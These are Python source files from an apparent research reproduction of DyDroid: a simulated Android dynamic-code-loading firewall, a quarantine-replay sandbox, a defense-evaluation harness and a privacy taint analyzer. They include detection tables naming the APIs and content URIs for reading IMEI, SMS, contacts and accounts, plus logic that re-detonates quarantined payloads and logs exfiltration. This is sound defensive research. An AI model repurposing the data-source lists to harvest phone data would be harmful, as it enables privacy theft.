        if not meta_path.exists():
            record = {"digest": digest, "size": len(data)}
            record.update(decision.to_dict())
            meta_path.write_text(json.dumps(record, indent=1, sort_keys=True))
        return digest

    def digests(self) -> List[str]:
        return sorted(p.stem for p in self.directory.glob("*.bin"))

    def metadata(self, digest: str) -> Dict[str, object]:
        return json.loads((self.directory / (digest + ".json")).read_text())

    def read_payload(self, digest: str) -> bytes:
        return (self.directory / (digest + ".bin")).read_bytes()

    def __len__(self) -> int:
        return len(self.digests())


# -- the firewall --------------------------------------------------------------


class DclFirewall:
    """Inline enforcement attached to one VM session (``vm.firewall``).

    The runtime hooks call :meth:`check_dex_load` / :meth:`check_native_load`
    after emitting the instrumentation event (so measurement -- and the code
    interceptor's payload dump -- always happen) but before any code is
    defined or any native intrinsic runs.
    """

    def __init__(
        self,
        policy: PolicyDocument,
        context: PolicyContext,
        verdict_store=None,
        quarantine: Optional[QuarantineStore] = None,
        events=None,
    ) -> None:
        self.policy = policy
        self.context = context
        self.engine = PolicyEngine(policy.build_rules(verdict_store))
        self.quarantine = quarantine
        #: structured event sink (duck-typed EventLog); deny/quarantine
        #: verdicts are emitted so live operators see enforcement as it
        #: happens, not only in the post-session report.
        self.events = events
        #: every inline verdict of the session, ALLOWs included (the audit
        #: trail the report serializes).
        self.decisions: List[FirewallDecision] = []

    def check_dex_load(self, event: DexLoadEvent) -> None:
        for path in event.dex_paths:
            self._check(path, "dex")

    def check_native_load(self, event: NativeLoadEvent) -> None:
        self._check(event.lib_path, "native")

    def _check(self, path: str, kind: str) -> None:
        decision = self.engine.decide(self.context, path)
        recorded = FirewallDecision(
            path=path,
            verdict=decision.verdict.value,
            rule=decision.rule,
            reason=decision.reason,
            policy=self.policy.name,
            kind=kind,
        )
        self.decisions.append(recorded)
        if decision.verdict is PolicyVerdict.ALLOW:
            return
        if self.events is not None:
            self.events.emit(
                "firewall.{}".format(decision.verdict.value),
                level="warn",
                path=path, kind=kind, rule=decision.rule,
                policy=self.policy.name, enforced=self.policy.enforce,
            )
        if decision.verdict is PolicyVerdict.QUARANTINE and self.quarantine is not None:
            self._preserve(path, recorded)
        if self.policy.enforce:
            raise FirewallDeniedException(
                "DCL firewall [{}]: {} load of {} blocked by rule "
                "{!r}: {}".format(
                    self.policy.name, kind, path, decision.rule, decision.reason
                ),
                decision=recorded,
            )

    def _preserve(self, path: str, decision: FirewallDecision) -> None:
        if self.context.vfs is None:
            return
        try:
            data = self.context.vfs.read(path)
        except FileNotFoundError:
            return
        self.quarantine.put(data, decision)


# -- quarantine replay ---------------------------------------------------------

_SANDBOX_PACKAGE = "com.repro.sandbox"


def replay_quarantined(
    store: QuarantineStore, digest: str
) -> Dict[str, object]:
    """Re-detonate one quarantined payload in a disposable sandbox VM.

    Builds a throwaway host app on a fresh device (no firewall attached),
    drops the preserved bytes into the sandbox's private storage, and loads
    them through the same hooked API the original app used -- so analysts
    observe exactly what the block prevented (logcat, exfiltration,
    instrumentation events) without the original app or market access.
    """
    from repro.android.apk import Apk
    from repro.android.bytecode import MethodRef
    from repro.android.dex import DexFile
    from repro.android.manifest import AndroidManifest
    from repro.dynamic.dcl_logger import DclLogger
    from repro.runtime.device import Device
    from repro.runtime.instrumentation import Instrumentation
    from repro.runtime.objects import VMException, VMObject
    from repro.runtime.vm import DalvikVM

    meta = store.metadata(digest)
    data = store.read_payload(digest)
    kind = str(meta.get("kind", "dex"))
    basename = str(meta.get("path", "payload.bin")).rsplit("/", 1)[-1]
    sandbox_path = "/data/data/{}/files/{}".format(_SANDBOX_PACKAGE, basename)

    device = Device()
    instrumentation = Instrumentation()
    logger = DclLogger().attach(instrumentation)
    vm = DalvikVM(device, instrumentation)
    host = Apk.build(
        AndroidManifest(package=_SANDBOX_PACKAGE, min_sdk=21, permissions=set(), components=[]),
        dex_files=[DexFile()],
    )
    vm.install_app(host)
    device.vfs.write(sandbox_path, data, owner=_SANDBOX_PACKAGE)

    error: Optional[str] = None
    try:
        if kind == "native":
            vm.invoke(MethodRef("java.lang.Runtime", "load", 2), [None, sandbox_path])
        else:
            loader = VMObject("dalvik.system.DexClassLoader")
            vm.invoke(
                MethodRef("dalvik.system.DexClassLoader", "<init>", 5),
                [
                    loader,
                    sandbox_path,
                    "/data/data/{}/cache".format(_SANDBOX_PACKAGE),
                    None,
                    None,
                ],
            )
    except VMException as exc:
        error = str(exc)

    return {
        "digest": digest,
        "kind": kind,
        "source_path": meta.get("path", ""),
        "rule": meta.get("rule", ""),
        "sandbox_path": sandbox_path,
        "dex_events": len(logger.dex_events),
        "native_events": len(logger.native_events),
        "logcat": list(device.logcat),
        "exfiltrated": [
            {"url": url, "n_bytes": n} for url, n in device.network.exfil_log
        ],
        "error": error,
    }
