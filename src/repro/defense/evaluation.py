"""Defended-corpus evaluation: blocked-hazard rate vs. benign breakage.

The paper measures what dynamically loaded code *does*; this harness
measures what an inline enforcement layer would have *prevented* -- and,
just as importantly, what it would have broken.  ``evaluate_defense`` runs
the same seeded corpus through the pipeline twice:

1. **baseline** -- firewall off.  This is the reference behavior per app
   (did it crash on its own? what loaded?) and, because the interceptor
   dumps every payload, it warms the shared :class:`VerdictStore` with
   detection verdicts the defended phase's ``known-malware`` rule reads.
2. **defended** -- firewall on under the named policy, against the *same*
   verdict store.

Scoring is against corpus ground truth (each app's
:class:`~repro.corpus.generator.AppBlueprint`):

- a **hazard** is an app planted with a remote-fetch payload, a malware
  carrier, or a code-injection-vulnerable load; it counts as *exposed*
  when its baseline run actually performed a dynamic load (env-gated
  malware that never triggers exposes nothing to block);
- an exposed hazard is **blocked** when the defended run denied or
  quarantined at least one of its loads;
- a benign app is **broken** when the defended run blocked any of its
  loads *or* ended in a worse outcome than its own baseline (an app that
  was crashy before enforcement is not breakage).

Both phases run in-process by default; ``workers > 1`` routes them
through the farm coordinator instead (policy and store path travel inside
:class:`~repro.core.config.DyDroidConfig`, which the verdict fingerprint
deliberately ignores, so both phases share one store either way).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.config import DyDroidConfig
from repro.core.report import MeasurementReport, _decision_fields
from repro.corpus.generator import AppBlueprint, CorpusGenerator
from repro.corpus.profiles import CorpusProfile
from repro.defense.firewall import get_policy

#: outcome quality ladder for the breakage comparison (higher is better).
_OUTCOME_RANK = {
    "rewriting-failure": 0,
    "no-activity": 1,
    "crash": 1,
    "exercised": 2,
}


def hazard_kind(blueprint: AppBlueprint) -> str:
    """Ground-truth hazard class of a blueprint ("" for benign apps)."""
    if blueprint.malware_family:
        return "known-malware"
    if blueprint.is_plugin_host:
        return "plugin-hijack"
    if blueprint.is_staged_downloader:
        return "dropper-chain"
    if blueprint.is_baidu_remote:
        return "remote-code"
    if blueprint.vuln_kind:
        return "code-injection"
    return ""


@dataclass
class AppDefenseOutcome:
    """Before/after scoring for one app."""

    package: str
    corpus_index: int
    hazard: str  # "" = benign
    exposed: bool
    baseline_outcome: str
    defended_outcome: str
    blocked_loads: List[Tuple[str, str]] = field(default_factory=list)

    @property
    def blocked(self) -> bool:
        return bool(self.blocked_loads)

    @property
    def broken(self) -> bool:
        """Benign app harmed by enforcement (blocked or degraded)."""
        if self.hazard:
            return False
        if self.blocked:
            return True
        before = _OUTCOME_RANK.get(self.baseline_outcome, 2)
        after = _OUTCOME_RANK.get(self.defended_outcome, 2)
        return after < before

    def to_dict(self) -> Dict[str, object]:
        return {
            "package": self.package,
            "corpus_index": self.corpus_index,
            "hazard": self.hazard,
            "exposed": self.exposed,
            "baseline_outcome": self.baseline_outcome,
            "defended_outcome": self.defended_outcome,
            "blocked_loads": [list(pair) for pair in self.blocked_loads],
            "blocked": self.blocked,
            "broken": self.broken,
        }


@dataclass
class DefenseEvaluation:
    """Corpus-level enforcement scorecard."""

    policy: str
    n_apps: int
    seed: int
    outcomes: List[AppDefenseOutcome] = field(default_factory=list)
    defended_report: Optional[MeasurementReport] = None

    # -- aggregates ------------------------------------------------------------

    @property
    def exposed_hazards(self) -> List[AppDefenseOutcome]:
        return [o for o in self.outcomes if o.hazard and o.exposed]

    @property
    def blocked_hazards(self) -> List[AppDefenseOutcome]:
        return [o for o in self.exposed_hazards if o.blocked]

    @property
    def broken_benign(self) -> List[AppDefenseOutcome]:
        return [o for o in self.outcomes if o.broken]

    @property
    def blocked_hazard_rate(self) -> float:
        exposed = self.exposed_hazards
        return len(self.blocked_hazards) / len(exposed) if exposed else 0.0

    @property
    def benign_breakage_rate(self) -> float:
        benign = [o for o in self.outcomes if not o.hazard]
        return len(self.broken_benign) / len(benign) if benign else 0.0

    def hazards_by_kind(self) -> Dict[str, Dict[str, int]]:
        table: Dict[str, Dict[str, int]] = {}
        for outcome in self.exposed_hazards:
            row = table.setdefault(outcome.hazard, {"exposed": 0, "blocked": 0})
            row["exposed"] += 1
            row["blocked"] += int(outcome.blocked)
        return table

    def to_dict(self) -> Dict[str, object]:
        return {
            "policy": self.policy,
            "n_apps": self.n_apps,
            "seed": self.seed,
            "exposed_hazards": len(self.exposed_hazards),
            "blocked_hazards": len(self.blocked_hazards),
            "blocked_hazard_rate": round(self.blocked_hazard_rate, 4),
            "benign_apps": sum(1 for o in self.outcomes if not o.hazard),
            "broken_benign": len(self.broken_benign),
            "benign_breakage_rate": round(self.benign_breakage_rate, 4),
            "by_kind": self.hazards_by_kind(),
            "apps": [o.to_dict() for o in self.outcomes],
        }

    def render(self) -> str:
        """The paper-style before/after enforcement table."""
        lines = [
            "DEFENSE EVALUATION: policy [{}] over {} applications (seed {})".format(
                self.policy, self.n_apps, self.seed
            ),
            "=" * 74,
            "{:<26}{:>12}{:>12}{:>12}".format(
                "Hazard class", "Exposed", "Blocked", "Rate"
            ),
            "-" * 74,
        ]
        for kind in sorted(self.hazards_by_kind()):
            row = self.hazards_by_kind()[kind]
            rate = row["blocked"] / row["exposed"] if row["exposed"] else 0.0
            lines.append(
                "{:<26}{:>12}{:>12}{:>11.0%}".format(
                    kind, row["exposed"], row["blocked"], rate
                )
            )
        lines.append("-" * 74)
        lines.append(
            "{:<26}{:>12}{:>12}{:>11.0%}".format(
                "All hazards",
                len(self.exposed_hazards),
                len(self.blocked_hazards),
                self.blocked_hazard_rate,
            )
        )
        benign = sum(1 for o in self.outcomes if not o.hazard)
        lines.append(
            "{:<26}{:>12}{:>12}{:>11.0%}".format(
                "Benign apps broken",
                benign,
                len(self.broken_benign),
                self.benign_breakage_rate,
            )
        )
        return "\n".join(lines)


# -- the harness ---------------------------------------------------------------


def _outcome_value(analysis) -> str:
    outcome = analysis.outcome if analysis is not None else None
    if outcome is None:
        return ""
    return getattr(outcome, "value", outcome)


def _had_any_load(analysis) -> bool:
    """Whether the (baseline) session performed any mediated load.

    ``dex_loaded``/``native_loaded`` exist on both the live
    :class:`DynamicReport` and its serialized digest, so farm runs score
    identically to in-process ones; firewall decisions cover observe-mode
    baselines where a load was mediated but the flags predate the field.
    """
    if analysis is None or analysis.dynamic is None:
        return False
    dynamic = analysis.dynamic
    return bool(
        getattr(dynamic, "dex_loaded", False)
        or getattr(dynamic, "native_loaded", False)
        or dynamic.firewall_decisions
    )


def _blocked_loads(analysis) -> List[Tuple[str, str]]:
    if analysis is None or analysis.dynamic is None:
        return []
    blocked = []
    for decision in analysis.dynamic.firewall_decisions:
        verdict, rule = _decision_fields(decision)
        if verdict != "allow":
            blocked.append((verdict, rule))
    return blocked


def _measure_in_process(
    config: DyDroidConfig,
    store,
    n_apps: int,
    seed: int,
    profile: Optional[CorpusProfile] = None,
) -> MeasurementReport:
    from repro.core.pipeline import DyDroid

    corpus = CorpusGenerator(profile=profile, seed=seed).generate(n_apps)
    return DyDroid(config, verdict_store=store).measure(corpus)


def _measure_on_farm(
    config: DyDroidConfig, store_path: str, n_apps: int, seed: int, workers: int
) -> MeasurementReport:
    from repro.farm.coordinator import FarmConfig, run_farm

    result = run_farm(
        FarmConfig(
            n_apps=n_apps,
            corpus_seed=seed,
            workers=workers,
            pipeline=config,
            verdict_store=store_path,
        )
    )
    return result.report


def evaluate_defense(
    n_apps: int,
    seed: int = 7,
    policy: str = "default",
    verdict_store: str = "",
    quarantine_dir: str = "",
    config: Optional[DyDroidConfig] = None,
    workers: int = 1,
    profile: Optional[CorpusProfile] = None,
) -> DefenseEvaluation:
    """Run the two-phase (baseline, defended) evaluation on a seeded corpus.

    ``verdict_store`` is required for the ``known-malware`` rule to have
    verdicts to read; without a path the two phases share an in-memory
    store-less pipeline and that rule never fires.
    """
    get_policy(policy)  # fail fast on unknown names
    from dataclasses import replace

    base_config = config or DyDroidConfig()
    baseline_config = replace(
        base_config, firewall_policy="", quarantine_dir="", run_replays=False
    )
    defended_config = replace(
        base_config,
        firewall_policy=policy,
        quarantine_dir=quarantine_dir,
        run_replays=False,
    )

    if workers > 1:
        if not verdict_store:
            raise ValueError("farm evaluation requires a --verdict-store path")
        if profile is not None:
            raise ValueError(
                "farm evaluation runs the default corpus profile; "
                "custom profiles require workers=1"
            )
        baseline = _measure_on_farm(
            baseline_config, verdict_store, n_apps, seed, workers
        )
        defended = _measure_on_farm(
            defended_config, verdict_store, n_apps, seed, workers
        )
    else:
        from repro.store.verdicts import VerdictStore

        store = VerdictStore(verdict_store, base_config) if verdict_store else None
        try:
            baseline = _measure_in_process(
                baseline_config, store, n_apps, seed, profile
            )
            defended = _measure_in_process(
                defended_config, store, n_apps, seed, profile
            )
        finally:
            if store is not None:
                store.close()

    blueprints = CorpusGenerator(profile=profile, seed=seed).sample_blueprints(n_apps)
    baseline_by_index = {a.corpus_index: a for a in baseline.apps}
    defended_by_index = {a.corpus_index: a for a in defended.apps}

    evaluation = DefenseEvaluation(
        policy=policy, n_apps=n_apps, seed=seed, defended_report=defended
    )
    for blueprint in blueprints:
        before = baseline_by_index.get(blueprint.index)
        after = defended_by_index.get(blueprint.index)
        evaluation.outcomes.append(
            AppDefenseOutcome(
                package=blueprint.package,
                corpus_index=blueprint.index,
                hazard=hazard_kind(blueprint),
                exposed=_had_any_load(before),
                baseline_outcome=_outcome_value(before),
                defended_outcome=_outcome_value(after),
                blocked_loads=_blocked_loads(after),
            )
        )
    return evaluation
