"""Defenses for dynamic code loading.

The paper's conclusion: "The security verification of DCL is needed from
the app developer and OS vendors."  Its related work points at Grab'n Run
(Falsina et al., ACSAC 2015) -- a drop-in library that verifies loaded code
before execution.  This package implements both ends of that remedy inside
the simulated ecosystem, plus the active-enforcement layer behind
``repro defend``:

- :mod:`repro.defense.secure_loader` -- a developer-side drop-in:
  :class:`SecureDexClassLoader` verifies payload digests/signatures against
  a pinned manifest before delegating to the real loader, closing the
  Table IX code-injection hole;
- :mod:`repro.defense.policy` -- the rule layer: a provenance policy engine
  that scores DCL events against the download tracker, the manifest, and
  the VFS (remote code, foreign-writable and world-writable load paths);
- :mod:`repro.defense.firewall` -- *inline* enforcement of those rules at
  the VM's complete-mediation hook points, with per-tenant
  :class:`PolicyDocument` selection, verdict-store-backed known-malware
  quarantine, and sandboxed replay of quarantined payloads;
- :mod:`repro.defense.debloat` -- a static rewriter that shelves DCL call
  sites no manifest entry point can reach (guard-stub replacement);
- :mod:`repro.defense.evaluation` -- the defended-corpus harness scoring
  blocked-hazard rate against benign breakage (``repro defend eval``).
"""

from repro.defense.debloat import (
    RewriteManifest,
    ShelvedSite,
    debloat_apk,
    debloat_corpus,
)
from repro.defense.evaluation import (
    AppDefenseOutcome,
    DefenseEvaluation,
    evaluate_defense,
    hazard_kind,
)
from repro.defense.firewall import (
    POLICIES,
    DclFirewall,
    FirewallDecision,
    PolicyDocument,
    QuarantineStore,
    get_policy,
    known_malware_rule,
    policy_names,
    replay_quarantined,
)
from repro.defense.policy import (
    PolicyDecision,
    PolicyEngine,
    PolicyRule,
    PolicyVerdict,
    default_policy,
)
from repro.defense.secure_loader import (
    CodeVerificationError,
    PayloadManifest,
    SecureDexClassLoader,
    sign_payload,
)

__all__ = [
    "AppDefenseOutcome",
    "CodeVerificationError",
    "DclFirewall",
    "DefenseEvaluation",
    "FirewallDecision",
    "POLICIES",
    "PayloadManifest",
    "PolicyDecision",
    "PolicyDocument",
    "PolicyEngine",
    "PolicyRule",
    "PolicyVerdict",
    "QuarantineStore",
    "RewriteManifest",
    "SecureDexClassLoader",
    "ShelvedSite",
    "debloat_apk",
    "debloat_corpus",
    "default_policy",
    "evaluate_defense",
    "get_policy",
    "hazard_kind",
    "known_malware_rule",
    "policy_names",
    "replay_quarantined",
    "sign_payload",
]
