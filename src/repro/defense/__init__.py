"""Defenses for dynamic code loading.

The paper's conclusion: "The security verification of DCL is needed from
the app developer and OS vendors."  Its related work points at Grab'n Run
(Falsina et al., ACSAC 2015) -- a drop-in library that verifies loaded code
before execution.  This package implements both ends of that remedy inside
the simulated ecosystem:

- :mod:`repro.defense.secure_loader` -- a developer-side drop-in:
  :class:`SecureDexClassLoader` verifies payload digests/signatures against
  a pinned manifest before delegating to the real loader, closing the
  Table IX code-injection hole;
- :mod:`repro.defense.policy` -- an OS/market-side enforcement layer:
  a provenance policy engine that watches DCL events + the download tracker
  and blocks (or reports) loads violating the Google Play content policy
  (remotely fetched code) or loading from foreign-writable locations.
"""

from repro.defense.policy import (
    PolicyDecision,
    PolicyEngine,
    PolicyRule,
    PolicyVerdict,
    default_policy,
)
from repro.defense.secure_loader import (
    CodeVerificationError,
    PayloadManifest,
    SecureDexClassLoader,
    sign_payload,
)

__all__ = [
    "CodeVerificationError",
    "PayloadManifest",
    "PolicyDecision",
    "PolicyEngine",
    "PolicyRule",
    "PolicyVerdict",
    "SecureDexClassLoader",
    "default_policy",
    "sign_payload",
]
