"""Static analyses: the host-side half of DyDroid.

- :mod:`repro.static_analysis.smali` / :mod:`~repro.static_analysis.decompiler`
  -- baksmali/apktool stand-ins: APK -> smali-like IR, with the real tools'
  failure modes (anti-decompilation, packed resources).
- :mod:`repro.static_analysis.prefilter` -- the cheap DCL-API existence scan
  that decides which apps enter dynamic analysis.
- :mod:`repro.static_analysis.rewriter` -- adds ``WRITE_EXTERNAL_STORAGE``
  and repacks; anti-repackaging apps fail here (Table II "Rewriting failure").
- :mod:`repro.static_analysis.vulnerability` -- risky-DCL classification
  (external storage pre-4.4, other apps' internal storage).
- :mod:`repro.static_analysis.malware` -- DroidNative: MAIL lifting, ACFG
  construction, trained subgraph matching at the 90% threshold.
- :mod:`repro.static_analysis.privacy` -- FlowDroid-style source->sink taint
  analysis over intercepted DEX with arbitrary entry points.
- :mod:`repro.static_analysis.obfuscation` -- packing/lexical/reflection/
  native/anti-decompilation detection.
"""

from repro.static_analysis.decompiler import (
    DecompilationError,
    Decompiler,
)
from repro.static_analysis.prefilter import PrefilterResult, prefilter
from repro.static_analysis.rewriter import RepackagingError, ensure_external_write
from repro.static_analysis.smali import SmaliProgram
from repro.static_analysis.vulnerability import (
    RiskyLoadCategory,
    VulnerabilityFinding,
    classify_loads,
)

__all__ = [
    "DecompilationError",
    "Decompiler",
    "PrefilterResult",
    "RepackagingError",
    "RiskyLoadCategory",
    "SmaliProgram",
    "VulnerabilityFinding",
    "classify_loads",
    "ensure_external_write",
    "prefilter",
]
