"""Privacy sources: the 18 data types of Table X in 5 categories.

Two source shapes exist:

- **API sources**: invoking a framework method whose return value carries
  the sensitive datum (``TelephonyManager.getDeviceId()`` -> IMEI, ...);
- **content-provider sources**: querying a privacy-sensitive provider URI
  through ``ContentResolver.query``.  The URI itself is obtained from a
  provider class's ``CONTENT_URI`` static field (SGET) or a string literal,
  and the paper identifies providers by their URI.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional, Tuple

#: category codes used in Table X.
LOCATION = "L"
PHONE_IDENTITY = "PI"
USER_IDENTITY = "UI"
USAGE_PATTERN = "UP"
CONTENT_PROVIDER = "CP"

PRIVACY_CATEGORIES: Dict[str, str] = {
    LOCATION: "Location",
    PHONE_IDENTITY: "Phone identity",
    USER_IDENTITY: "User identity",
    USAGE_PATTERN: "Usage pattern",
    CONTENT_PROVIDER: "Content provider",
}


@dataclass(frozen=True)
class PrivacySource:
    """One data type: its Table X name, category, and how it is read."""

    data_type: str
    category: str


#: API-call sources: (class, method) -> source descriptor.
API_SOURCES: Dict[Tuple[str, str], PrivacySource] = {
    ("android.location.LocationManager", "getLastKnownLocation"): PrivacySource("Location", LOCATION),
    ("android.location.LocationManager", "requestLocationUpdates"): PrivacySource("Location", LOCATION),
    ("android.telephony.TelephonyManager", "getDeviceId"): PrivacySource("IMEI", PHONE_IDENTITY),
    ("android.telephony.TelephonyManager", "getSubscriberId"): PrivacySource("IMSI", PHONE_IDENTITY),
    ("android.telephony.TelephonyManager", "getSimSerialNumber"): PrivacySource("ICCID", PHONE_IDENTITY),
    ("android.telephony.TelephonyManager", "getLine1Number"): PrivacySource("Phone number", USER_IDENTITY),
    ("android.accounts.AccountManager", "getAccounts"): PrivacySource("Account", USER_IDENTITY),
    ("android.accounts.AccountManager", "getAccountsByType"): PrivacySource("Account", USER_IDENTITY),
    ("android.content.pm.PackageManager", "getInstalledApplications"): PrivacySource("Installed applications", USAGE_PATTERN),
    ("android.content.pm.PackageManager", "getInstalledPackages"): PrivacySource("Installed packages", USAGE_PATTERN),
    # Settings reads are API-shaped (static getString) but categorized as a
    # content provider in Table X, matching the paper's URI-based view.
    ("android.provider.Settings$System", "getString"): PrivacySource("Settings", CONTENT_PROVIDER),
    ("android.provider.Settings$Secure", "getString"): PrivacySource("Settings", CONTENT_PROVIDER),
}

#: provider-URI sources: uri -> source descriptor (all category CP).
URI_SOURCES: Dict[str, PrivacySource] = {
    "content://contacts": PrivacySource("Contact", CONTENT_PROVIDER),
    "content://calendar": PrivacySource("Calendar", CONTENT_PROVIDER),
    "content://call_log": PrivacySource("CallLog", CONTENT_PROVIDER),
    "content://browser": PrivacySource("Browser", CONTENT_PROVIDER),
    "content://media.audio": PrivacySource("Audio", CONTENT_PROVIDER),
    "content://media.images": PrivacySource("Image", CONTENT_PROVIDER),
    "content://media.video": PrivacySource("Video", CONTENT_PROVIDER),
    "content://settings": PrivacySource("Settings", CONTENT_PROVIDER),
    "content://mms": PrivacySource("MMS", CONTENT_PROVIDER),
    "content://sms": PrivacySource("SMS", CONTENT_PROVIDER),
}

#: the 18 data types, in Table X order.
DATA_TYPES = (
    "Location",
    "IMEI",
    "IMSI",
    "ICCID",
    "Phone number",
    "Account",
    "Installed applications",
    "Installed packages",
    "Contact",
    "Calendar",
    "CallLog",
    "Browser",
    "Audio",
    "Image",
    "Video",
    "Settings",
    "MMS",
    "SMS",
)

#: data type -> category code, for report rendering.
DATA_TYPE_CATEGORY: Dict[str, str] = {}
for _source in list(API_SOURCES.values()) + list(URI_SOURCES.values()):
    DATA_TYPE_CATEGORY[_source.data_type] = _source.category


def api_source_for(class_name: str, method_name: str) -> Optional[PrivacySource]:
    """The source descriptor for an API call, if it is a source."""
    return API_SOURCES.get((class_name, method_name))


def uri_source_for(uri: Optional[str]) -> Optional[PrivacySource]:
    """The source descriptor for a content-provider URI, if sensitive."""
    if uri is None:
        return None
    return URI_SOURCES.get(uri)
