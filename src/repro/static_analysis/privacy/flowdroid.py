"""The inter-procedural taint engine over intercepted DEX code.

FlowDroid proper needs a manifest and layout resources to find entry
points; the paper's modification drops that dependency because dynamically
loaded code has arbitrary entry points.  We implement the same idea
directly: **every method is analyzed**, and flows are summarized
inter-procedurally to a fixpoint:

- taint elements are either concrete :class:`PrivacySource` descriptors or
  symbolic :class:`ParamTaint` markers ("whatever the caller passes in
  parameter *i*");
- each method gets a summary: the taint of its return value and the sinks
  its parameters reach; call sites substitute concrete argument taints for
  the symbolic markers;
- field stores are a flow-insensitive global map (object-insensitive, the
  usual large-scale compromise);
- register transfer is kill-free and iterated to a small per-method
  fixpoint, which makes joins at branch targets trivial and conservative.

The engine also tracks string/URI constants through registers so
``ContentResolver.query(CONTENT_URI)`` resolves to the queried provider,
mirroring the paper's "look up the URI mapped with each privacy-sensitive
content provider".
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Optional, Set, Tuple, Union

from repro.android.bytecode import FieldRef, Instruction, MethodRef, Op
from repro.android.dex import DexFile, DexMethod
from repro.static_analysis.privacy.sinks import SinkSpec, is_sink
from repro.static_analysis.privacy.sources import (
    PrivacySource,
    api_source_for,
    uri_source_for,
)

#: provider CONTENT_URI static fields, kept in sync with the runtime image.
from repro.runtime.frameworkapi import PROVIDER_URIS

MAX_METHOD_PASSES = 4
MAX_GLOBAL_ROUNDS = 10


@dataclass(frozen=True)
class ParamTaint:
    """Symbolic taint: flows from the method's parameter ``index``."""

    index: int


Taint = Union[PrivacySource, ParamTaint]
TaintSet = FrozenSet[Taint]
EMPTY: TaintSet = frozenset()


@dataclass(frozen=True)
class PrivacyLeak:
    """One confirmed source -> sink flow inside loaded code."""

    data_type: str
    category: str
    sink_class: str
    sink_method: str
    channel: str
    in_method: str                # "cls.method" where the sink call sits

    def __str__(self) -> str:
        return "{} -> {}.{} [{}] in {}".format(
            self.data_type, self.sink_class, self.sink_method, self.channel, self.in_method
        )


@dataclass
class MethodSummary:
    """What a method does with taint, independent of its callers."""

    return_taint: Set[Taint] = field(default_factory=set)
    #: sinks reached by symbolic/concrete taints inside this method:
    #: (taint, sink_class, sink_method, channel)
    sink_hits: Set[Tuple[Taint, str, str, str]] = field(default_factory=set)


#: framework calls that pass taint from one argument to another
#: (class, method) -> list of (from_position, to_position).
ARG_TO_ARG_PROPAGATION: Dict[Tuple[str, str], List[Tuple[int, int]]] = {
    ("java.io.InputStream", "read"): [(0, 1)],       # stream taints buffer
    ("java.io.OutputStream", "write"): [],           # handled as sink
}


class FlowDroid:
    """Taint analysis over one DEX file."""

    def __init__(self, dex: DexFile) -> None:
        self.dex = dex
        self._methods: Dict[Tuple[str, str, int], DexMethod] = {}
        for method in dex.iter_methods():
            self._methods[(method.class_name, method.name, method.arity)] = method
        self.summaries: Dict[Tuple[str, str, int], MethodSummary] = {
            key: MethodSummary() for key in self._methods
        }
        self.field_taint: Dict[Tuple[str, str], Set[Taint]] = {}
        self.leaks: Set[PrivacyLeak] = set()

    # -- public API ---------------------------------------------------------------

    def run(self) -> List[PrivacyLeak]:
        """Iterate method analyses to a global fixpoint; return leaks."""
        for _ in range(MAX_GLOBAL_ROUNDS):
            changed = False
            for key, method in self._methods.items():
                if self._analyze_method(key, method):
                    changed = True
            if not changed:
                break
        self._resolve_symbolic_leaks()
        return sorted(
            self.leaks, key=lambda l: (l.data_type, l.sink_class, l.sink_method, l.in_method)
        )

    # -- per-method analysis ----------------------------------------------------------

    def _analyze_method(self, key: Tuple[str, str, int], method: DexMethod) -> bool:
        """One pass over a method; True when its summary or fields grew."""
        summary = self.summaries[key]
        before = (len(summary.return_taint), len(summary.sink_hits), self._field_size())

        taints: Dict[int, Set[Taint]] = {
            index: {ParamTaint(index)} for index in range(method.arity)
        }
        strings: Dict[int, Optional[str]] = {}
        pending_taint: Set[Taint] = set()
        pending_string: Optional[str] = None

        for _ in range(MAX_METHOD_PASSES):
            dirty = False
            for insn in method.instructions:
                d, pending_taint, pending_string = self._transfer(
                    insn, taints, strings, pending_taint, pending_string, summary, method
                )
                dirty = dirty or d
            if not dirty:
                break

        after = (len(summary.return_taint), len(summary.sink_hits), self._field_size())
        return after != before

    def _field_size(self) -> int:
        return sum(len(v) for v in self.field_taint.values())

    def _transfer(
        self,
        insn: Instruction,
        taints: Dict[int, Set[Taint]],
        strings: Dict[int, Optional[str]],
        pending_taint: Set[Taint],
        pending_string: Optional[str],
        summary: MethodSummary,
        method: DexMethod,
    ) -> Tuple[bool, Set[Taint], Optional[str]]:
        op = insn.op
        dirty = False

        def get(register: int) -> Set[Taint]:
            return taints.setdefault(register, set())

        def merge(register: int, new: Set[Taint]) -> None:
            nonlocal dirty
            bucket = taints.setdefault(register, set())
            if not new.issubset(bucket):
                bucket.update(new)
                dirty = True

        if op is Op.CONST:
            dst, literal = insn.args
            if isinstance(literal, str) and strings.get(dst) != literal:
                strings[dst] = literal
                dirty = True
        elif op is Op.MOVE:
            dst, src = insn.args
            merge(dst, get(src))
            if strings.get(src) is not None and strings.get(dst) != strings.get(src):
                strings[dst] = strings.get(src)
                dirty = True
        elif op is Op.INVOKE:
            ref, arg_regs = insn.args
            pending_taint, pending_string = self._transfer_invoke(
                ref, arg_regs, taints, strings, summary, method, merge, get
            )
        elif op is Op.MOVE_RESULT:
            (dst,) = insn.args
            merge(dst, pending_taint)
            if pending_string is not None and strings.get(dst) != pending_string:
                strings[dst] = pending_string
                dirty = True
        elif op is Op.IGET:
            dst, obj, ref = insn.args
            merge(dst, self.field_taint.get((ref.class_name, ref.name), set()) | get(obj))
        elif op is Op.IPUT:
            src, obj, ref = insn.args
            dirty = self._taint_field(ref, get(src)) or dirty
        elif op is Op.SGET:
            dst, ref = insn.args
            uri = PROVIDER_URIS.get((ref.class_name, ref.name))
            if uri is not None and strings.get(dst) != uri:
                strings[dst] = uri
                dirty = True
            merge(dst, self.field_taint.get((ref.class_name, ref.name), set()))
        elif op is Op.SPUT:
            src, ref = insn.args
            dirty = self._taint_field(ref, get(src)) or dirty
        elif op is Op.AGET:
            dst, arr, _ = insn.args
            merge(dst, get(arr))
        elif op is Op.APUT:
            src, arr, _ = insn.args
            merge(arr, get(src))
        elif op is Op.BINOP:
            _, dst, a, b = insn.args
            merge(dst, get(a) | get(b))
        elif op is Op.RETURN:
            (src,) = insn.args
            if not get(src).issubset(summary.return_taint):
                summary.return_taint.update(get(src))
                dirty = True
        # IF/GOTO/LABEL/NOP/RETURN_VOID/THROW/NEW_*: no taint transfer
        return dirty, pending_taint, pending_string

    def _taint_field(self, ref: FieldRef, taint: Set[Taint]) -> bool:
        if not taint:
            return False
